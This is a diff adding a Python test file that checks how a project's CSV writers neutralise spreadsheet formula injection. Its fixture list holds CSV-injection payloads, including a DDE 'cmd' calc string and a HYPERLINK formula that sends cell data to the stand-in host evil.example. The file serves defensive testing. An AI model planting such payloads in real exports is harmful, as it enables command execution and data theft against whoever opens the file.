@@ -1,0 +1,77 @@
+"""Texts that spreadsheet programs would calculate are written so that they do not, and read as they were."""
+
+import csv
+import datetime
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from boxwright.cli.evaluation_out import write_rejects
+from boxwright.domain.order import Item, Order
+from boxwright.errors import FieldViolation
+from boxwright.evaluation.batch import Rejected
+from boxwright.orders import read_orders
+from boxwright.orders.batches import order_batches
+from boxwright.orders.line_rows import SHIPPED_COLUMNS, shipped_rows
+from boxwright.orders.write import write_csv
+from boxwright.tabular import neutral, restored
+
+SIGNS = "=+-@\t\r\n＝＋－＠"
+TEXTS = st.text(st.sampled_from([*SIGNS, "'", '"', ",", ";", " ", "a", "1"]), max_size=8) | st.text(max_size=20)
+
+ATTACKS = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "'=1+1",
+    "''@a",
+    "-5",
+    "＝1+1",
+    "'quoted'",
+    "O'Neill",
+)
+
+
+@given(text=TEXTS)
+def test_what_is_written_is_read_as_it_was(text):
+    """Whatever the text, apostrophes of its own included."""
+    assert restored(neutral(text)) == text
+
+
+@given(text=TEXTS)
+def test_no_cell_that_is_written_is_a_formula(text):
+    """None begins with a sign of one; a text that does not is left alone."""
+    cell = neutral(text)
+    assert not cell.startswith(tuple(SIGNS))
+    if not text.lstrip("'").startswith(tuple(SIGNS)):
+        assert cell == restored(text) == text
+
+
+def order_of(text):
+    """Return an order with a text wherever a text may come from outside."""
+    line = Item(text, 1, 100, 90, 80, 5, description=text, keep_apart_group=text)
+    return Order(text, (line,), boxes_used=(text,))
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_orders_of_such_texts_are_read_as_they_were(tmp_path, text):
+    """The file has no cell that is a formula; the order that is read is the one that was written."""
+    path = tmp_path / "orders.csv"
+    order = order_of(text)
+    with path.open("w", encoding="utf-8", newline="") as file:
+        write_csv(shipped_rows(order, datetime.date(2026, 3, 1)), SHIPPED_COLUMNS, file)
+    with path.open(encoding="utf-8", newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert not any(cell.startswith(tuple(SIGNS)) for cell in cells)
+    assert list(read_orders(path)) == [order]
+    assert [each for batch in order_batches(path) for each in batch.readings()] == [order]
+
+
+def test_rejected_orders_are_no_formulas(tmp_path):
+    """Their file is for people alone, and quotes what strangers sent."""
+    broken = (FieldViolation("row 2, =x", "-1 is too little"),)
+    write_rejects([Rejected("=1+1", broken)], tmp_path / "rejected.csv")
+    assert (tmp_path / "rejected.csv").read_text().splitlines()[1] == "'=1+1,row 2,'=x,'-1 is too little"
